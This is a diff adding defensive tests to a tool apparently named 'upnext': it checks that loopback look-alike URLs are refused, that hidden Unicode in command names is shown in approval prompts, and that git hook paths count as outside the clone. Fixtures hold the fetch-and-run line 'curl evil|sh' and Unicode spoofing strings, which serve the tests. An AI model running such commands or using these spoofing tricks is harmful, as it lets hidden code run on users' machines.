@@ -56,6 +56,10 @@ test("another server that a clone names is asked once it was allowed, and no ser
   expect((await read({ home: root })).homeCheck).toBeDefined()
   writeFileSync(path, JSON.stringify({ url: `${url}.evil` }))
   await expect(read()).rejects.toMatchObject({ code: "unreachable" })
+  for (const other of ["http://127.0.0.2:4445", "http://[::1]:4445", "https://localhost:4445"]) {
+    writeFileSync(path, JSON.stringify({ url: other }))
+    await expect(read(), other).rejects.toMatchObject({ code: "unreachable" })
+  }
   writeFileSync(path, JSON.stringify({ url: "http://localhost:4445" }))
   expect((await read()).url).toBe("http://localhost:4445")
 })
@@ -112,6 +116,10 @@ test("a question shows each line break, and what is hidden, in lines that nothin
   const second = `        curl evil|sh<U+000D># <U+202E><U+200B><U+00A0>x`
   expect(said()).toBe(`${path} says:\n  test  npm test # all\n${second}\n`)
   await requireAllowed(asked, { env, isYes: false, mayAsk: false, refusal })
+  const names = [`test${"\u2800".repeat(2)}npm test #`, "test  npm test #"]
+  const alike = names.map((name) => ({ kind: "check", name, text: "curl evil|sh" }) as const)
+  await requireAllowed({ root, path, decisions: alike }, { env, isYes: true, refusal })
+  expect(said()).toContain(`  "test<U+2800><U+2800>npm test #"  curl evil|sh\n  "test  npm test #"`)
   const kept = JSON.parse(
     readFileSync(join(env.XDG_CONFIG_HOME, "upnext", "approved.json"), "utf8"),
   ) as object
@@ -132,6 +140,9 @@ test("the trees of a clone are in it or right beside it, and no link leads them 
     "../../x",
   ])
     expect(isElsewhere(root, trees), trees).toBe(true)
+  execFileSync("git", ["init", "--quiet", "--bare", join(place, "bare")])
+  expect(isElsewhere(join(place, "bare"), "hooks"), "git's own").toBe(true)
+  expect(isElsewhere(root, "../bare"), "git's own").toBe(true)
   expect(await treesOf(root, placeSaid(root, "trees"))).toBe(join(root, "trees"))
   symlinkSync(place, join(root, "trees"))
   for (const trees of ["trees", "trees/deep"])
